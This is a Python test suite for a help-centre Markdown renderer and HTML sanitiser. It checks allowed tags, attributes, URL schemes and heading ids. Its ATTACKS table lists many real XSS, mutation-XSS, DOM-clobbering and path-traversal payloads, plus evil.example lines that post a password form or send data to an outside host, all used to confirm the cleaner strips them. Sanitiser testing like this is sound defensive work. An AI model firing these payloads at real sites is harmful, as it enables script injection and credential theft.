"""What Markdown becomes, and what never gets through."""

import re
from collections.abc import Iterator
from urllib.parse import urlsplit

import pytest
from hypothesis import given, settings
from hypothesis import strategies as st

from models.kb import renderer
from models.kb.rendering import Heading, render
from tests.models.dom import Page

# --- what may stand in an article, written down a second time on purpose --------------------------

TAGS = set(
    """a abbr b blockquote br caption code dd del details div dl dt em figcaption figure h2 h3 h4 h5
    h6 hr i img ins kbd li mark ol p pre q s samp small span strong sub summary sup table tbody td
    tfoot th thead tr u ul var""".split()  # noqa: SIM905 - easier to read than sixty strings
)
ATTRIBUTES = {
    "align", "alt", "aria-label", "class", "colspan", "dir", "height", "href", "id", "lang",
    "loading", "open", "rel", "role", "rowspan", "src", "start", "tabindex", "title", "width",
}  # fmt: skip
CLASSES = re.compile(
    r"admonition(-title)?|note|tip|important|warning|caution|danger|highlight|filename|hll|linenos|table-scroll"
    r"|task-list(-item)?|task-mark|footnote(-(back)?ref)?|[a-z]{1,2}[0-9a-z]?"
)


def faults(markup: str) -> list[str]:
    """What would be dangerous or in the page's way if this stood in an article."""
    found = []
    for tag, attributes in Page(markup).elements:
        found += [f"<{tag}>"] * (tag not in TAGS)
        found += [f"{tag} {name}" for name in attributes if name not in ATTRIBUTES]
        found += [f"class {name}" for name in attributes.get("class", "").split()
                  if not CLASSES.fullmatch(name)]  # fmt: skip
        if not attributes.get("id", "kb-").startswith("kb-"):
            found.append(f"id {attributes['id']}")
        found += address_faults(tag, attributes)
    return found


def address_faults(tag: str, attributes: dict[str, str]) -> Iterator[str]:
    if tag == "img" and not re.match(r"https?://|/help/", attributes.get("src", "")):
        yield f"src {attributes.get('src')}"
    if "href" in attributes:
        # As browsers read it: controls at the ends and line breaks inside do not count.
        href = re.sub("[\t\r\n]", "", attributes["href"]).strip("".join(map(chr, range(33))))
        scheme = urlsplit(href).scheme
        if scheme not in ("", "http", "https", "mailto"):
            yield f"href {href}"
        away = scheme or href.replace("\\", "/").startswith("//")
        if bool(away) != (attributes.get("rel") == "noopener nofollow ugc"):
            yield f"rel of {href}"


ATTACKS = {
    "X-3": ["[a](javascript:__p=1)", "[a](JaVaScRiPt:__p=1)", "[a]: javascript:1\n\n[a]",
            "<javascript:__p=1>", "<a href='javascript:1'>x</a>"],
    "X-4": ["[a](&#x6A;avascript:__p=1)", "[a](javascript&colon;__p=1)", "[a](\x01javascript:1)",
            "[a](java&#10;script:__p=1)", "[a](&#1;javascript:1)", "[a](java\tscript:1)",
            "<a href='&#1;java&#9;script:1'>x</a>"],
    "X-6": ["[x](data:text/html,<script>__p=1</script>)", "![x](data:image/svg+xml;base64,PA==)",
            "[x](vbscript:1)", "[x](file:///etc/passwd)", "[x](blob:https://a/1)", "![x](file:///x)",
            "![x](//evil.example/x.png)", "![x](/support-dashboard/logout)", "![x](x.png)",
            "![x](/help/../logout)", "![x](/help/%2e%2e/logout)", "![x](/help/..%2flogout)",
            "<img src='/help/..&#92;logout'>", "![x](/help//evil.example/x)"],
    "X-7": ["[x](//evil.example)", "[x](/\\evil.example)", "[x](\\\\evil.example)",
            "<a href='/&#9;/evil.example'>x</a>", "<a href='&#1;//evil.example'>x</a>",
            "<a href=' https:evil.example'>x</a>",
            "<a href='//evil.example' rel=opener target=_top>x</a>"],
    "X-8": ["[x](http://a){onclick=__p=1}",
            'para\n{: onmouseover="__p=1" style="position:fixed;inset:0" }'],
    "X-9": ["# x {: #csrf_token }", "x\n{: name=getElementById }", "<h2 id=csrf_token>x</h2>",
            '[^"><img src=x onerror=__p=1>]\n\n[^"><img src=x onerror=__p=1>]: note',
            "<a id=main name=body>x</a>", "<li id='a b'>x", "<sup id='\"><img src=x>'>x</sup>",
            "<img name=getElementById id=forms src=/help/x.png>"],
    "X-10": ['```"><script>__p=1</script>\nx\n```', '```{.py #top onclick=1 style="x"}\nx\n```',
             "```{.py lineanchors='\"><script>' anchorlinenos=1 linenos=table}\nx\n```",
             '```py linenums="1" hl_lines="1" title="\"><script>__p=1</script>"\nx\n```',
             "```{.fixed .sr-only .hidden}\nx\n```"],
    "X-12": ['<div markdown="1" onclick=__p=1>*x*</div>'],
    "X-13": ['a\n\n*[a]: "><img src=x onerror=__p=1>', "[TOC]\n# <img src=x onerror=__p=1>",
             "[TOC]\n\n# <img src=x onerror='p=1'>"],
    "X-14": ["<svg><animate onbegin=__p=1 attributeName=x dur=1s>", "<svg onload=__p=1>",
             "<svg><a><set attributeName=href to=javascript:__p=1><text>x</text></a></svg>"],
    "X-15": ["<math><annotation-xml encoding=text/html><style><img src=x onerror=__p=1></style>",
             "<math><mi//xlink:href='javascript:1'>"],
    "X-16": ['<noscript><p title="</noscript><img src=x onerror=__p=1>">',
             "<form><math><mtext></form><form><mglyph><style></math><img src onerror=__p=1>",
             '<svg></p><style><a id="</style><img src=1 onerror=__p=1>">',
             "<table><mtext><template><style><!--</style><img title='--><img src onerror=1>'>",
             "<xmp><p title='</xmp><img src=x onerror=1>'>",
             "<textarea><img title='</textarea><s>'>"],
    "X-18": ["<form action=//evil.example><input name=password><button>Sign in</button></form>",
             "<input type=checkbox disabled name=x>", "<select><option>x</select>"],
    "X-19": ["<style>@import'//evil.example'</style>", "<p class='fixed hidden modal'>x</p>",
             '<p style="background:url(//evil.example/?c)">x</p>', "<link rel=stylesheet href=//a>",
             "<div class='table-scroll admonition overlay'>x</div>"],
    "X-20": ["<!--><img src=x onerror=__p=1>-->", "<![CDATA[><img src=x onerror=__p=1>]]>",
             "<?x ><img src=x onerror=__p=1>", "<!-- x --!><img src=x onerror=__p=1>"],
    "frames": ["<iframe srcdoc='<script>1</script>'></iframe>", "<object data=x><embed src=x>",
               "<base href=//evil.example>", "<meta http-equiv=refresh content='0;url=//evil'>",
               "<script>window.__p=1</script>", "<img src=x onerror=__p=1>",
               "<IMG/SRC=x/OnErRoR=__p=1//", "<video src=x onerror=1></video>"],
}  # fmt: skip
EACH = [pytest.param(attack, id=f"{row}-{number}") for row, attacks in ATTACKS.items()
        for number, attack in enumerate(attacks)]  # fmt: skip


@pytest.mark.parametrize("attack", EACH)
def test_attacks_leave_nothing_dangerous(attack: str) -> None:
    for typed in (attack, f"text {attack} text", f"- {attack}\n\n> {attack}\n"):
        made = render(typed)
        assert made.formatted
        assert faults(made.html) == []


def test_without_cleaning_the_attacks_are_noticed() -> None:
    for row, attacks in ATTACKS.items():
        found = [fault for attack in attacks for fault in faults(renderer.to_html(attack))]
        dangers = [fault for fault in found if not fault.startswith("rel of")]
        # No extension reads attributes in braces, so these are words from the start.
        assert bool(dangers) == (row != "X-8"), row


@pytest.mark.parametrize("attack", EACH)
def test_cleaning_twice_changes_nothing(attack: str) -> None:
    once = renderer.clean(renderer.to_html(attack))
    assert renderer.clean(once) == once
    assert renderer.clean(renderer.clean(attack)) == renderer.clean(attack)


def test_what_never_comes_to_rest_is_refused(monkeypatch: pytest.MonkeyPatch) -> None:
    unstable = "<h1>a<table><h1>b</h1></table></h1>"
    assert renderer.clean(unstable).count("<h1>") == 2
    monkeypatch.setattr(renderer, "MAX_ROUNDS", 1)
    with pytest.raises(ValueError, match="never twice the same"):
        renderer.clean(unstable)


PIECES = [attack for attacks in ATTACKS.values() for attack in attacks]
SYNTAX = """# > - 1. | --- ``` ` [ ]( ) ![ < > </ = " ' & &# ; * _ ~~ [^1] : !!! <p> <table> <h1>
    </h1> <pre> <a href= http://a é""".split()  # noqa: SIM905 - as above
SYNTAX += ["\n", "\n\n", "    ", "\x02", "\x03", "\0", "!!! note\n"]


@settings(max_examples=150, deadline=None)
@given(st.lists(st.sampled_from(PIECES + SYNTAX), max_size=12).map("".join))
def test_no_mixture_gets_through(typed: str) -> None:
    once = renderer.clean(renderer.to_html(typed))
    assert renderer.clean(once) == once
    dressed = renderer.dress(once)["html"]
    assert faults(dressed) == []
    # A browser puts nothing elsewhere than we did.
    assert tags(renderer.clean(dressed)) == tags(dressed)


def tags(markup: str) -> list[str]:
    return re.findall(r"</?[a-z0-9]+", markup)


# --- what Markdown becomes ------------------------------------------------------------------------


def page(markdown: str) -> Page:
    """The rendered article as elements."""
    return Page(render(markdown).html)


def test_headings_begin_below_the_pages_own_and_leave_no_level_out() -> None:
    made = render("# One *two*\n\n#### Deep\n\n## Next\n\n<h1>Raw & done</h1>\n\n# One two\n\n#")
    assert made.headings == [
        Heading(2, "kb-one-two", "One two"),
        Heading(3, "kb-deep", "Deep"),
        Heading(3, "kb-next", "Next"),
        Heading(2, "kb-raw-done", "Raw & done"),
        Heading(2, "kb-one-two:2", "One two"),
    ]
    elements = [(tag, a["id"]) for tag, a in Page(made.html).elements if re.match("h[1-6]", tag)]
    assert elements[:5] == [(f"h{h.level}", h.id) for h in made.headings]


def test_articles_without_a_first_level_keep_theirs() -> None:
    assert [h.level for h in render("## A\n\n### B").headings] == [2, 3]
    assert [h.level for h in render("### A\n\n### B").headings] == [2, 2]
    assert render("# Öffnen 安装").headings[0].id == "kb-öffnen-安装"


def test_links_in_the_site_find_their_heading() -> None:
    links = page("[a](#setup) [b](/help/x#setup) [c](other) [d](#) [e](https://a.example/#x)")
    assert [link.get("href") for link in links.all("a")] == [
        "#kb-setup", "/help/x#kb-setup", "other", None, "https://a.example/#x",
    ]  # fmt: skip


def test_links_that_lead_away_say_so() -> None:
    links = page("[a](/help/x) [b](https://b.example) [c](mailto:c@d.example) https://e.example")
    assert [link.get("rel") for link in links.all("a")] == [None] + ["noopener nofollow ugc"] * 3


def test_images() -> None:
    made = page("![A cat](/help/files/a%20b.png 'Cat') ![b](https://b.example/b.png)")
    assert made.all("img") == [
        {"alt": "A cat", "src": "/help/files/a%20b.png", "title": "Cat", "loading": "lazy"},
        {"alt": "b", "src": "https://b.example/b.png", "loading": "lazy"},
    ]
    refused = page("see ![the <b> plan](javascript:1)")
    assert (refused.all("img"), refused.words) == ([], "see the <b> plan")


def test_tables_scroll_and_align() -> None:
    made = page("| a | b |\n|:-:|--:|\n| 1 | 2 |")
    assert made.elements[0] == (
        "div",
        {"class": "table-scroll", "role": "group", "aria-label": "Table", "tabindex": "0"},
    )
    assert [cell["align"] for cell in made.all("td")] == ["center", "right"]


def test_code_has_colours_and_can_be_scrolled() -> None:
    made = page('```py title="a.py" hl_lines="1"\nif x < 1: pass\n```')
    assert made.all("pre") == [{"tabindex": "0"}]
    assert {"k", "hll", "filename"} <= {span.get("class") for span in made.all("span")}
    assert "if x < 1: pass" in made.words
    assert page("```nonsense\n<b>\n```").words.strip() == "<b>"


def test_task_lists_are_marks_and_no_form() -> None:
    made = page("- [x] done\n- [ ] open")
    assert made.words.split() == ["☑", "done", "☐", "open"]
    assert made.all("span") == [{"class": "task-mark"}] * 2
    assert made.all("input") == []


def test_notes_definitions_footnotes_and_raw_html() -> None:
    made = page(
        "!!! warning\n    Hot\n\n??? note\n    More\n\nTerm\n:   Meaning\n\n"
        "A[^1] ~~b~~\n\n[^1]: Foot\n\n<kbd>Ctrl</kbd>\n"
    )
    tags = {tag for tag, _ in made.elements}
    assert tags >= {"details", "summary", "dl", "dt", "dd", "sup", "del", "kbd"}
    assert {"class": "admonition warning"} in made.all("div")
    ends = {a["href"] for a in made.all("a")} | {f"#{li['id']}" for li in made.all("li") if li}
    assert ends == {"#kb-fn:1", "#kb-fnref:1"}


def test_the_text_has_the_words_and_no_marks() -> None:
    made = render(
        "# Über\n\nA *b* & [c](http://d)[^1]\n\n- e\n- f <g>\n\n![h](/help/h.png)\n\n[^1]: i"
    )
    assert made.text == "Über\nA b & c\ne\nf\nh\ni"


@pytest.mark.parametrize(
    ("typed", "words"),
    [
        ("<![", "<!["),
        ("a\n\n<!-", "a\n<!-"),
        ("</", "</"),
        ("<?", "<?"),
        ("&#", "&#"),
        ("<scr\0ipt>x", "x"),
        ("\x02wzxhzdk:0\x03", "wzxhzdk:0"),
        ("<b>secret</b> \x02wzxhzdk:0\x03", "secret wzxhzdk:0"),
        ("\x02amp\x03", "amp"),
        ("\x02klzzwxh:0000\x03", "klzzwxh:0000"),
        ("{{ 7 * 7 }} ${7} %(x)s {0.__class}", "{{ 7 * 7 }} ${7} %(x)s {0.__class}"),
        ("\ud800", "\ufffd"),
        ("", ""),
    ],
)
def test_odd_input_keeps_its_text(typed: str, words: str) -> None:
    made = render(typed)
    assert made.formatted
    assert made.text == words
    assert faults(made.html) == []
